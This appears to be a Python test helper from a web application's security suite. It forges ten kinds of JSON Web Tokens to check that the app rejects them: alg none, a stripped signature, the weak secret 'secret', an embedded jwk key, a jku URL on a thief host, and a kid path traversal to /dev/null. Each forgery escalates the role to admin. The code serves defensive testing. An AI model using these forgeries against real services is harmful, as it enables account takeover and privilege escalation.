"""Ten ways to forge a token, each of them somebody's breach (RFC 8725, OWASP JWT cheat sheet).

What a thief has to begin with: both of somebody's tokens, to learn from how they look.
"""

import base64
import hmac
import json
from dataclasses import dataclass
from typing import Any

from webapp.core.keys import generate_secret

Json = dict[str, Any]

NAMES: dict[str, str] = {
    "no-algorithm": "The header says that nothing is signed: alg none",
    "other-claims": "Role and lifetime are changed, the signature is kept",
    "no-signature": "The signature is cut off",
    "guessed-secret": "Signed with the secret 'secret'",
    "own-key": "It brings the key that it was signed with along: jwk",
    "key-address": "It names an address where its key can be fetched: jku",
    "kid-of-a-file": "It names an empty file as its key, and is signed with nothing",
    "next-generation": "A refresh token whose generation is one higher",
    "access-as-refresh": "A copied access token, in the refresh token's cookie",
    "refresh-as-access": "A copied refresh token, in the access token's place",
}


@dataclass(frozen=True)
class Forged:
    """What the thief sends."""

    access: str = ""
    refresh: str = ""


def forge(name: str, access: str, refresh: str) -> Forged:
    """Raises KeyError: there is no such forgery."""
    if name == "access-as-refresh":
        return Forged(refresh=access)
    if name == "refresh-as-access":
        return Forged(access=refresh)
    if name == "next-generation":
        head, body, signature = refresh.split(".")
        claims = _read(body)
        return Forged(refresh=f"{head}.{_write(claims | {'gen': claims['gen'] + 1})}.{signature}")
    return Forged(access=_access(name, access))


def _access(name: str, access: str) -> str:
    head, body, signature = access.split(".")
    header, claims = _read(head), _read(body)
    wanted = claims | {"role": "admin", "exp": claims["exp"] + 3600}
    own = generate_secret()
    forgeries = {
        "no-algorithm": lambda: f"{_write(header | {'alg': 'none'})}.{_write(wanted)}.",
        "other-claims": lambda: f"{head}.{_write(wanted)}.{signature}",
        "no-signature": lambda: f"{head}.{_write(wanted)}.",
        "guessed-secret": lambda: _signed(header, wanted, b"secret"),
        "own-key": lambda: _signed(
            header | {"jwk": {"kty": "oct", "k": own}}, wanted, _secret_bytes(own)
        ),
        "key-address": lambda: _signed(
            header | {"jku": "https://thief.example/keys"}, wanted, _secret_bytes(own)
        ),
        "kid-of-a-file": lambda: _signed(header | {"kid": "../../dev/null"}, wanted, b""),
    }
    return forgeries[name]()


def _signed(header: Json, claims: Json, secret: bytes) -> str:
    message = f"{_write(header)}.{_write(claims)}"
    return f"{message}.{_encode(hmac.digest(secret, message.encode(), 'sha256'))}"


def _secret_bytes(secret: str) -> bytes:
    return base64.urlsafe_b64decode(secret + "==")


def _read(part: str) -> Json:
    value: Json = json.loads(base64.urlsafe_b64decode(part + "=="))
    return value


def _write(value: Json) -> str:
    return _encode(json.dumps(value, separators=(",", ":")).encode())


def _encode(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
